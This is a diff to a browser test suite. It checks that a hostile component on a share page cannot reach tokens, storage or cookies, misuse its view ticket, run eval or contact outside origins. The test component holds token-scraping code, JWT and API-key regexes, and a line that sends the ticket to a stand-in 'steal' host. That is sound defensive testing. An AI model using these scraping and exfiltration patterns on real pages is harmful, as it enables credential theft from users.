@@ -6,8 +6,9 @@ import { startTestPlatform, type TestPlatform } from '../helpers/env.ts'
 /*
  * Components in a real browser (Debian's chromium via playwright-core): a component compiled from
  * JSX renders, calls a function through its proxy and shows the data (screenshot kept in .tap/);
- * a hostile component on a share page looks for any token and finds none, cannot use its view
- * ticket as a credential, and the CSP stops eval and outside connections.
+ * a hostile component on a share page looks for any token and finds none — not even the one this
+ * origin's localStorage and cookie hold (the page's CSP sandbox gives it an opaque origin) —,
+ * cannot use its view ticket as a credential, and the CSP stops eval and outside connections.
  */
 const why = ensureChromium()
 if (why !== null) {
@@ -49,11 +50,20 @@ export default function Spy() {
   useEffect(() => {
     (async () => {
       const r: Record<string, unknown> = {}
+      // each read on its own: in the sandboxed (opaque-origin) page the storage getters throw
+      const read = (what: string, f: () => string): string => {
+        try {
+          return f()
+        } catch {
+          r[what] = 'denied'
+          return ''
+        }
+      }
       const haystack = [
         document.documentElement.outerHTML,
-        document.cookie,
-        JSON.stringify(Object.fromEntries(Object.entries(localStorage))),
-        JSON.stringify(Object.fromEntries(Object.entries(sessionStorage))),
+        read('cookie', () => document.cookie),
+        read('localStorage', () => JSON.stringify(Object.fromEntries(Object.entries(localStorage)))),
+        read('sessionStorage', () => JSON.stringify(Object.fromEntries(Object.entries(sessionStorage)))),
         JSON.stringify(ui),
         location.href,
         document.referrer,
@@ -61,9 +71,11 @@ export default function Spy() {
       r.jwt = /eyJ[A-Za-z0-9_-]{10,}\\.[A-Za-z0-9_-]+/.test(haystack)
       r.apiKey = /apk_[A-Za-z0-9]/.test(haystack)
       const ticket = (JSON.parse(document.getElementById('platform-component')!.textContent!) as { ticket: string }).ticket
-      r.me = (await fetch('/auth/me', { headers: { authorization: 'Bearer ' + ticket } })).status
-      r.list = (await fetch('/api/v1/functions', { headers: { authorization: 'Bearer ' + ticket } })).status
-      r.apiKeyHeader = (await fetch('/api/v1/functions', { headers: { 'x-api-key': ticket } })).status
+      // from the opaque origin these are cross-origin: refused before they are sent ('blocked')
+      const status = (url: string, headers: Record<string, string>) => fetch(url, { headers }).then((res) => res.status, () => 'blocked')
+      r.me = await status('/auth/me', { authorization: 'Bearer ' + ticket })
+      r.list = await status('/api/v1/functions', { authorization: 'Bearer ' + ticket })
+      r.apiKeyHeader = await status('/api/v1/functions', { 'x-api-key': ticket })
       try { r.evalRan = (0, eval)('1 + 1') === 2 } catch { r.evalRan = false }
       try { await fetch('http://203.0.113.7/steal?t=' + ticket); r.outside = 'sent' } catch { r.outside = 'blocked' }
       try { await ui.execute('web/stock', {}); r.notEnabled = 'ran' } catch (e) { r.notEnabled = (e as { status?: number }).status }
@@ -120,18 +132,48 @@ export default function Spy() {
   })
 
   t.test('a hostile bundle on a share page finds no token and its ticket opens nothing', async (t) => {
+    // The viewer's token in this origin's storage, as a docs page or a console would keep it.
+    type Swagger = { ui?: { authActions: { authorizeWithPersistOption(a: unknown): unknown }; specSelectors: { specJson(): { size: number } } } }
+    type Storage = { localStorage: { setItem(k: string, v: string): void; getItem(k: string): string | null; length: number; key(i: number): string | null }; document: { cookie: string } }
+    const docs = await browser.context.newPage()
+    await docs.goto(`${env.base}/api/v1/docs`)
+    await docs.waitForFunction(() => ((globalThis as unknown as Swagger).ui?.specSelectors.specJson().size ?? 0) > 0, undefined, { timeout: 60_000 })
+    // what the Authorize dialog's button does
+    await docs.evaluate((token) => (globalThis as unknown as Swagger).ui?.authActions.authorizeWithPersistOption({ bearer: { name: 'bearer', schema: { type: 'http', scheme: 'bearer', bearerFormat: 'JWT' }, value: token } }), a.token)
+    const stored = () =>
+      docs.evaluate(() => {
+        const s = (globalThis as unknown as Storage).localStorage
+        return Array.from({ length: s.length }, (_, i) => `${String(s.key(i))}=${String(s.getItem(s.key(i) ?? ''))}`).join('\n')
+      })
+    t.notOk((await stored()).includes(a.token), 'Swagger UI, once authorized, keeps the token out of localStorage')
+    await docs.evaluate((token) => {
+      const g = globalThis as unknown as Storage
+      g.localStorage.setItem('authorized', JSON.stringify({ bearer: { name: 'bearer', value: token } }))
+      g.document.cookie = `token=${token}; path=/`
+    }, a.token)
+    t.ok((await stored()).includes(a.token), "the token is in the origin's localStorage")
+    await docs.close()
+
     const share = await ok('POST', '/api/v1/components/web/spy/shares', { max_views: 3 })
     const page = await browser.context.newPage()
     const res = await page.goto(`${env.base}${String(share['url'])}`)
     t.equal(res?.status(), 200)
+    t.match(res?.headers()['content-security-policy'], /(^|; )sandbox allow-scripts(;|$)/, 'the page runs in an opaque origin')
     const report = page.locator('#report')
     await report.filter({ hasText: /\{/ }).waitFor({ timeout: 60_000 })
     const r = JSON.parse((await report.textContent()) ?? '{}') as Record<string, unknown>
-    t.equal(r['jwt'], false, 'no JWT anywhere the page can read')
+    t.equal(r['jwt'], false, "no JWT anywhere the page can read, though the origin's localStorage and cookie hold one")
     t.equal(r['apiKey'], false, 'no API key')
-    t.equal(r['me'], 401, 'the view ticket is not a bearer token')
-    t.equal(r['list'], 401)
-    t.equal(r['apiKeyHeader'], 401, 'nor an API key')
+    t.equal(r['localStorage'], 'denied', "the origin's localStorage is out of reach")
+    t.equal(r['sessionStorage'], 'denied')
+    t.equal(r['cookie'], 'denied', "and so are the origin's cookies")
+    t.equal(r['me'], 'blocked', 'a bearer call from the page is refused by the browser (CORS, opaque origin)')
+    t.equal(r['list'], 'blocked')
+    t.equal(r['apiKeyHeader'], 'blocked')
+    // and the ticket is no credential even when sent from outside a browser
+    const ticket = (JSON.parse((await page.locator('#platform-component').textContent()) ?? '{}') as { ticket: string }).ticket
+    t.equal((await env.request('GET', '/auth/me', { token: ticket })).status, 401, 'the view ticket is not a bearer token')
+    t.equal((await env.request('GET', '/api/v1/functions', { token: null, headers: { 'x-api-key': ticket } })).status, 401, 'nor an API key')
     t.equal(r['evalRan'], false, 'the CSP forbids eval')
     t.equal(r['outside'], 'blocked', 'and connections to other origins')
     t.equal(r['notEnabled'], 403, 'a proxy call outside the enabled lists is refused')
